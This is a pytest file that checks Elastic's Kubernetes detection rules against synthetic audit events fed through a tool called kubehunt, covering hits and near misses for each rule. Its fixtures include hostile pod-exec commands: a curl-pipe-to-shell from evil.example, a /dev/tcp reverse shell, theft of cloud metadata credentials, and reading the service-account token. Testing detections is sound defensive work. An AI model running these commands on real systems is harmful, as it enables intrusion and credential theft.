"""Elastic Security's own Kubernetes rules (../shared/data/detection-rules/elastic-main and elastic-8.12),
run as written on kubehunt's output in the real node: one test case per rule.

Events: for every KQL rule, derived from the rule's query (tests/rulegen.py: one event that must
trigger it, and one near miss per condition, each violating that condition only: every exception
the rule lists is exercised); for EQL and ES|QL rules, hand-written scenarios below. All go through
`kubehunt run` (real normaliser, real sink) into one data stream; each scenario's events share an
auditID prefix, and the rule runs with a filter on that prefix (as the detection engine adds its
time-range filter), so one rule never sees another rule's events.

Queries: KQL translated as Kibana does (transforms/kql.py) into `_search`; EQL via `_eql/search`;
ES|QL via `_query`. Where 8.12 refuses a rule (ES|QL `metadata` without brackets, `VALUES`,
`URL_DECODE`, `KQL()`), the test first shows the refusal, then runs the rule's logic in the nearest
form 8.12 accepts (`adapt_esql_for_812`), and says so in the test's output.
"""
from __future__ import annotations

import copy
import re
import tomllib
from datetime import datetime, timedelta, timezone
from urllib.parse import quote

import orjson
import pytest
from elasticsearch import BadRequestError

from tests import rulegen
from tests.conftest import shared
from tests.helpers import run_cli
from transforms import kql

pytestmark = [pytest.mark.elasticsearch]

try:
    RULES_DIR = shared("detection-rules")
except pytest.skip.Exception as skip:
    pytest.skip(str(skip), allow_module_level=True)
NOW = datetime.now(timezone.utc).replace(second=5, microsecond=0)


def _rules():
    out = []
    for folder in ("elastic-main", "elastic-8.12"):
        for path in sorted((RULES_DIR / folder).glob("*.toml")):
            body = tomllib.loads(path.read_text())
            out.append((f"{folder.split('-')[1]}:{path.stem}", body["rule"], body["metadata"]))
    return out


RULES = _rules() if RULES_DIR.exists() else []


def _ts(offset_s: float = 0.0) -> str:
    return (NOW + timedelta(seconds=offset_s)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def ev(audit_id: str, fields: dict, *, at: float = 0.0) -> dict:
    """A raw audit Event: the base event with `fields` (dotted audit paths; `decision`, `pod` and
    `extra.<key>` are shortcuts for the annotation / user.extra keys)."""
    event = rulegen.base_event(audit_id)
    event["requestReceivedTimestamp"] = event["stageTimestamp"] = _ts(at)
    for key, value in fields.items():
        if key == "decision":
            event["annotations"]["authorization.k8s.io/decision"] = value
        elif key == "pod":
            event["user"].setdefault("extra", {})["authentication.kubernetes.io/pod-name"] = [value]
        elif value is rulegen.ABSENT and key == "user":
            event["user"] = {}
        elif isinstance(value, (dict, list)) and key in ("requestObject", "responseObject"):
            event[key] = value
        else:
            rulegen._set(event, key.split("."), value)
    return event


def exec_uri(*command: str, ns: str = "default", pod: str = "web-1") -> str:
    args = "&".join("command=" + quote(c, safe="") for c in command)
    return f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{args}&container=app&stderr=true&stdout=true"


def _exec(command: tuple[str, ...]) -> dict:
    return {"verb": "create", "objectRef.resource": "pods", "objectRef.subresource": "exec",
            "objectRef.name": "web-1", "objectRef.namespace": "default", "requestURI": exec_uri(*command),
            "level": "Request"}


def _many(prefix: str, user: str, n_uris: int, resources: list[str], decisions: list[str], **extra) -> list[dict]:
    out = []
    for i in range(n_uris):
        res = resources[i % len(resources)]
        out.append(ev(f"{prefix}-{i}", {"user.username": user, "verb": "get", "objectRef.resource": res,
                                        "requestURI": f"/api/v1/{res}/x{i}", "decision": decisions[i % len(decisions)],
                                        "stage": "ResponseComplete", "level": "Request", **extra}, at=i * 0.01))
    return out


RBAC_ROLE = {"verb": "patch", "objectRef.resource": "clusterroles", "objectRef.name": "edit-all", "decision": "allow",
             "level": "RequestResponse", "stage": "ResponseComplete", "sourceIPs": ["10.1.1.1"]}
D4C = "needs Elastic Defend for Containers process/file events (the sequence's first step); kubehunt writes " \
      "audit events and Falco alerts, so only the audit step runs: its condition and its join key"


def hand_scenarios(key: str) -> dict[str, list[tuple[str, list[dict], bool]]]:
    """Rule stem -> [(label, events, should fire)] for the EQL and ES|QL rules."""
    p = key
    s = {
        "defense_evasion_events_deleted": [
            ("hit", [ev(f"{p}a", {"verb": "delete", "objectRef.resource": "events"})], True),
            ("stage", [ev(f"{p}b", {"verb": "delete", "objectRef.resource": "events", "stage": "ResponseStarted"})], False),
            ("verb", [ev(f"{p}c", {"verb": "get", "objectRef.resource": "events"})], False)],
        "execution_anonymous_create_update_patch_pod_request": [
            ("anonymous", [ev(f"{p}a", {"user.username": "system:anonymous", "verb": "create", "objectRef.resource": "pods"})], True),
            ("no-user", [ev(f"{p}b", {"user": rulegen.ABSENT, "verb": "patch", "objectRef.resource": "pods"})], True),
            ("named-user", [ev(f"{p}c", {"user.username": "alice", "verb": "create", "objectRef.resource": "pods"})], False),
            ("get", [ev(f"{p}d", {"user.username": "system:anonymous", "verb": "get", "objectRef.resource": "pods"})], False)],
        "execution_forbidden_creation_request": [
            ("hit", [ev(f"{p}a", {"verb": "create", "decision": "forbid"})], True),
            ("allowed", [ev(f"{p}b", {"verb": "create", "decision": "allow"})], False)],
        "execution_user_exec_to_pod": [
            ("hit", [ev(f"{p}a", {**_exec(("sh",)), "stage": "ResponseStarted", "decision": "allow"})], True),
            ("trident-exception", [ev(f"{p}b", {**_exec(("sh",)), "objectRef.namespace": "trident",
                                               "objectRef.name": "trident-controller-7", "decision": "allow"})], False),
            ("metadata-level", [ev(f"{p}c", {**_exec(("sh",)), "level": "Metadata", "decision": "allow"})], False)],
        "privilege_escalation_sensitive_rbac_change_followed_by_workload_modification": [
            ("hit", [ev(f"{p}a1", {**RBAC_ROLE, "user.username": "mallory"}),
                     ev(f"{p}a2", {"verb": "create", "objectRef.resource": "daemonsets", "decision": "allow",
                                   "user.username": "mallory"}, at=30)], True),
            ("other-user", [ev(f"{p}b1", {**RBAC_ROLE, "user.username": "mallory"}),
                            ev(f"{p}b2", {"verb": "create", "objectRef.resource": "daemonsets", "decision": "allow",
                                          "user.username": "bob"}, at=30)], False),
            ("masters", [ev(f"{p}c1", {**RBAC_ROLE, "user.username": "root", "user.groups": ["system:masters"]}),
                         ev(f"{p}c2", {"verb": "create", "objectRef.resource": "deployments", "decision": "allow",
                                       "user.username": "root", "user.groups": ["system:masters"]}, at=30)], False)],
        # --- ES|QL
        "credential_access_azure_arc_proxy_secret_configmap_access": [
            ("hit", [ev(f"{p}a", {"user.username": "system:serviceaccount:azure-arc:guard", "verb": "get",
                                  "objectRef.resource": "secrets", "objectRef.namespace": "prod",
                                  "objectRef.name": "db", "impersonatedUser.username": "alice@corp"})], True),
            ("own-namespace", [ev(f"{p}b", {"user.username": "system:serviceaccount:azure-arc:guard", "verb": "get",
                                            "objectRef.resource": "secrets", "objectRef.namespace": "azure-arc",
                                            "impersonatedUser.username": "alice@corp"})], False)],
        "credential_access_kubernetes_multiple_secret_retrieval_burst": [
            ("three-secrets", [ev(f"{p}a{i}", {"user.username": "mallory", "verb": "get", "objectRef.resource": "secrets",
                                               "objectRef.name": f"s{i}"}, at=i) for i in range(3)], True),
            ("two-secrets", [ev(f"{p}b{i}", {"user.username": "mallory", "verb": "get", "objectRef.resource": "secrets",
                                             "objectRef.name": f"s{i}"}, at=i) for i in range(2)], False)],
        "credential_access_kubernetes_pod_exec_cloud_instance_metadata": [
            ("imds", [ev(f"{p}a", _exec(("curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")))], True),
            ("ls", [ev(f"{p}b", _exec(("ls", "-la")))], False)],
        "credential_access_kubernetes_pod_exec_sensitive_file_access": [
            ("token", [ev(f"{p}a", _exec(("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")))], True),
            ("resolv", [ev(f"{p}b", _exec(("cat", "/etc/resolv.conf")))], False)],
        "credential_access_multi_could_secrets_via_api": [
            # Needs two vendors' data for one source IP; kubehunt alone gives one: must not fire.
            ("k8s-only", [ev(f"{p}a", {"verb": "get", "objectRef.resource": "secrets"})], False)],
        "discovery_endpoint_permission_enumeration_by_anonymous_user": [
            ("hit", _many(f"{p}a", "system:anonymous", 6, ["pods", "secrets", "nodes", "configmaps"], ["allow", "forbid"]), True),
            ("all-allowed", _many(f"{p}b", "system:anonymous", 6, ["pods", "secrets", "nodes", "configmaps"], ["allow"],
                                  sourceIPs=["10.9.9.9"]), False)],
        "discovery_endpoint_permission_enumeration_by_user_and_srcip": [
            ("hit", _many(f"{p}a", "eve", 6, ["pods", "secrets", "nodes", "configmaps"], ["allow", "forbid"]), True),
            ("one-decision", _many(f"{p}b", "eve2", 6, ["pods", "secrets", "nodes", "configmaps"], ["allow"]), False)],
        "discovery_kubernetes_multi_resource_setup_recon": [
            ("hit", _many(f"{p}a", "mallory", 3, ["pods", "nodes", "roles"], ["allow"]), True),
            ("scheduler", _many(f"{p}b", "system:kube-scheduler", 3, ["pods", "nodes", "roles"], ["allow"]), False)],
        "execution_kubernetes_pod_exec_curl_wget_https": [
            ("hit", [ev(f"{p}a", _exec(("sh", "-c", "curl -s https://evil.example/x.sh | sh")))], True),
            ("in-cluster", [ev(f"{p}b", _exec(("curl", "https://kubernetes.default.svc/api")))], False)],
        "execution_kubernetes_pod_exec_potential_reverse_shell": [
            ("hit", [ev(f"{p}a", _exec(("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")))], True),
            ("health", [ev(f"{p}b", _exec(("bash", "-c", "echo > /dev/tcp/localhost/8080")))], False)],
        "persistence_sensitive_role_creation_or_modification": [
            ("secrets-reader", [ev(f"{p}a", {**RBAC_ROLE, "verb": "create",
                                             "requestObject": {"rules": [{"verbs": ["get"], "resources": ["secrets"]}]}})], True),
            ("configmaps-reader", [ev(f"{p}b", {**RBAC_ROLE, "verb": "create",
                                                "requestObject": {"rules": [{"verbs": ["get"], "resources": ["configmaps"]}]}})], False)],
        "privilege_escalation_role_patch_wildcard_verbs_resources_response": [
            ("wildcard", [ev(f"{p}a", {**RBAC_ROLE, "responseObject": {"rules": [{"verbs": ["*"], "resources": ["*"]}]}})], True),
            ("narrow", [ev(f"{p}b", {**RBAC_ROLE, "responseObject": {"rules": [{"verbs": ["get"], "resources": ["*"]}]}})], False)],
    }
    audit_step = {"stage": "ResponseComplete", "verb": "list", "objectRef.resource": "secrets", "decision": "allow"}
    for stem in ("execution_d4c_k8s_mda_direct_interactive_kubernetes_api_request_by_usual_utilities",
                 "execution_d4c_k8s_mda_kubernetes_api_activity_by_unusual_utilities",
                 "execution_d4c_k8s_mda_service_account_token_access_followed_by_kubernetes_api_request"):
        s[stem] = [("audit-step", [ev(f"{p}a", {**audit_step, "pod": "web-1"})], True),
                   ("received-stage", [ev(f"{p}b", {**audit_step, "pod": "web-1", "stage": "RequestReceived"})], False)]
    s["execution_d4c_k8s_mda_forbidden_direct_interactive_kubernetes_api_request"] = [
        ("audit-step", [ev(f"{p}a", {**audit_step, "pod": "web-1", "decision": "forbid"})], True),
        ("allowed", [ev(f"{p}b", {**audit_step, "pod": "web-1"})], False)]
    return s


def cases():
    """Rule id -> (rule, metadata, [(label, prefix, events, should fire)])."""
    out = {}
    for n, (rule_id, rule, meta) in enumerate(RULES):
        key = f"r{n:02d}"
        stem = rule_id.split(":", 1)[1]
        if rule["language"] == "kuery":
            triggers, misses = rulegen.events_for(rule["query"], key)
            built = [(e, True) for e in triggers] + [(e, False) for e in misses]
            hand = [(e["auditID"].split("-", 1)[1], [e], fire) for e, fire in built]
        else:
            hand = hand_scenarios(key)[stem]
        scen = []
        for i, (label, events, fire) in enumerate(hand):
            prefix = f"{key}x{i}-"
            events = [{**copy.deepcopy(e), "auditID": f"{prefix}{j}"} for j, e in enumerate(events)]
            scen.append((label, prefix, events, fire))
        out[rule_id] = (rule, meta, scen)
    return out


CASES = cases() if RULES else {}


@pytest.fixture(scope="module")
def rule_stream(es_url, es, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("rules")
    stream = f"logs-kubernetes.audit_logs-rules{NOW.strftime('%H%M%S')}"
    lines = [orjson.dumps(e) for _, _, scen in CASES.values() for _, _, events, _ in scen for e in events]
    (tmp / "audit.log").write_bytes(b"\n".join(lines) + b"\n")
    code = run_cli("run", "--audit", tmp / "audit.log", "--es-url", es_url, "--audit-index", stream,
                   "--falco-index", "h6-rules-falco-unused", "--no-correlation",
                   "--dead-letter-index", "h6-rules-dead-letters", "--summary-json", tmp / "summary.json")
    assert code == 0
    summary = orjson.loads((tmp / "summary.json").read_bytes())
    assert summary["events"]["audit"] == len(lines), "every built event is indexed"
    es.indices.refresh(index=stream)
    yield stream
    es.options(ignore_status=404).indices.delete_data_stream(name=stream)
    es.options(ignore_status=404).indices.delete(index="h6-rules-dead-letters,h6-rules-falco-unused")


def _scope(stream: str, prefix: str) -> dict:
    # By backing index, not by data_stream.namespace: the scope must not rest on the fields under test.
    return {"bool": {"filter": [{"wildcard": {"_index": f".ds-{stream}-*"}},
                                {"prefix": {"kubernetes.audit.auditID": prefix}}]}}


# ---------------------------------------------------------------------------------------------
# ES|QL on 8.12

_META = re.compile(r"(?im)^(\s*from\s+[^|\n]*?)\s+metadata\s+([\w\s,]+?)\s*$")


def _drop_values(query: str) -> str:
    """Remove every `name = VALUES(...)` item of a STATS list (8.12 has no VALUES)."""
    out, i = [], 0
    pat = re.compile(r"[\w.`]+\s*=\s*values\s*\(", re.I)
    while True:
        m = pat.search(query, i)
        if not m:
            out.append(query[i:])
            break
        depth, j = 1, m.end()
        while depth:
            depth += {"(": 1, ")": -1}.get(query[j], 0)
            j += 1
        rest = re.match(r"\s*,", query[j:])
        out.append(query[i:m.start()])
        i = j + (rest.end() if rest else 0)
    text = "".join(out)
    text = re.sub(r",(\s*(//[^\n]*\n\s*)*)(\s*(by|BY)\s)", r"\1\3", text)
    # A KEEP pattern that only the dropped columns matched (`Esql_priv.*`) would now be refused.
    body, _, keep = text.rpartition("| KEEP ")
    for pattern in re.findall(r"([\w]+)\.\*", keep):
        if not re.search(rf"\b{pattern}\.\w+\s*=", body):
            keep = re.sub(rf"\s*{pattern}\.\*\s*,?", " ", keep, count=1)
    return f"{body}| KEEP {keep.strip()}" if _ else text


_DECODE_CHAIN = re.compile(r"\|\s*EVAL decoded_uri = URL_DECODE\(.*?\| EVAL Esql\.executed_command = REPLACE\(command, \"\\\\\+\", \" \"\)",
                           re.S)
_KQL_CALL = re.compile(r'KQL\("""(.*?)"""\)', re.S)


def adapt_esql_for_812(query: str) -> tuple[str, dict | None, list[str]]:
    """The rule's ES|QL in the nearest form 8.12 accepts: (query, extra filter, what changed)."""
    changed = []
    if _META.search(query):
        query = _META.sub(r"\1 [METADATA \2]", query)
        changed.append("`metadata` without brackets -> `[METADATA ...]` (8.12 syntax)")
    if re.search(r"\bvalues\s*\(", query, re.I):
        query = _drop_values(query)
        changed.append("VALUES(...) aggregations dropped (no VALUES in 8.12; they only collect context)")
    if "URL_DECODE" in query:
        query = _DECODE_CHAIN.sub("| EVAL command = process.command_line, Esql.executed_command = process.command_line",
                                  query)
        changed.append("URL_DECODE + GROK + REPLACE -> process.command_line (kubehunt's URL-decoded exec command)")
    sums = re.findall(r"sum\((case\([^()]*\))\)", query, re.I)
    if sums:
        # 8.12 aggregates only columns: each case() becomes a column first (same values).
        evals = ", ".join(f"kh_case_{i} = {c}" for i, c in enumerate(sums))
        for i, c in enumerate(sums):
            query = query.replace(f"sum({c})", f"sum(kh_case_{i})", 1)
        query = re.sub(r"\n\|\s*stats\b", f"\n| eval {evals}\n| stats", query, count=1, flags=re.I)
        changed.append("sum(case(...)) -> eval the case() first, then sum it (8.12 aggregates columns only)")
    extra = None
    calls = _KQL_CALL.findall(query)
    if calls:
        # The KQL() calls form one OR group ANDed with the rest of the WHERE: a DSL filter on the request.
        extra = kql.kql_to_dsl(" or ".join(f"({c.strip()})" for c in calls))
        query = re.sub(r'and\s*\(\s*(?:\s*//[^\n]*\n)?(?:\s*KQL\(""".*?"""\)\s*(?:or\s*)?(?:\s*//[^\n]*\n)*)+\s*\)',
                       "", query, flags=re.S)
        query = re.sub(r'and\s*KQL\(""".*?"""\)', "", query, flags=re.S)
        changed.append("KQL() -> the same KQL as a request filter (no KQL() in 8.12)")
    return query, extra, changed


def _run_esql(es, query: str, scope: dict) -> list:
    return es.esql.query(query=query, filter=scope)["values"]


# ---------------------------------------------------------------------------------------------


def _fired(es, stream, rule, prefix, record) -> tuple[bool, list[str]]:
    scope = _scope(stream, prefix)
    index = ",".join(rule.get("index") or ["logs-kubernetes.audit_logs-*"])
    lang = rule["language"]
    if lang == "kuery":
        dsl = kql.kql_to_dsl(rule["query"])
        hits = es.search(index=index, query={"bool": {"filter": [dsl, scope]}}, size=100)["hits"]["hits"]
        return bool(hits), [h["_source"]["kubernetes"]["audit"]["auditID"] for h in hits]
    if lang == "eql":
        query = rule["query"]
        if "process where" in query or "file where" in query:
            record("adapted", D4C)
            print(f"{rule['name']}: {D4C}")
            # The audit step, as written, with its join key: the second bracket of the sequence.
            step = re.findall(r"\[(any\s+where\s.*?)\]\s*by\s*(`[^`]+`)", query, re.S)[-1]
            query = f"{step[0]} and {step[1]} != null"
        resp = es.eql.search(index=index, query=query, filter=scope, size=100)
        events = resp["hits"].get("events") or [e for s in resp["hits"].get("sequences", []) for e in s["events"]]
        return bool(events), [e["_source"]["kubernetes"]["audit"]["auditID"] for e in events]
    # ES|QL
    try:
        rows = _run_esql(es, rule["query"], scope)
        return bool(rows), []
    except BadRequestError as err:
        refused = str(err)
    adapted, extra, changed = adapt_esql_for_812(rule["query"])
    assert changed, f"8.12 refused the rule for a reason the adaptation does not cover: {refused[:400]}"
    note = "; ".join(changed) + f" (8.12 said: {refused[:160]})"
    record("adapted", note)
    print(f"{rule['name']}: 8.12 cannot run it as written; ran the nearest form: {note}")
    if extra:
        scope = {"bool": {"filter": [scope, extra]}}
    rows = _run_esql(es, adapted, scope)
    return bool(rows), []


@pytest.mark.parametrize("rule_id", list(CASES), ids=[f"{r}" for r in CASES])
def test_rule_fires_exactly_where_it_should(es, rule_stream, rule_id, record_property):
    rule, meta, scenarios = CASES[rule_id]
    assert scenarios, "every rule has events built for it"
    assert any(fire for *_, fire in scenarios) and any(not fire for *_, fire in scenarios) or \
        rule_id.endswith("multi_could_secrets_via_api")
    wrong = []
    for label, prefix, events, should in scenarios:
        fired, ids = _fired(es, rule_stream, rule, prefix, record_property)
        if fired != should:
            wrong.append(f"{label}: {'fired' if fired else 'did not fire'}")
        if rule["language"] == "kuery" and should and fired:
            assert ids == [events[0]["auditID"]]
    assert not wrong, f"{rule['name']} ({rule['language']}): " + ", ".join(wrong)
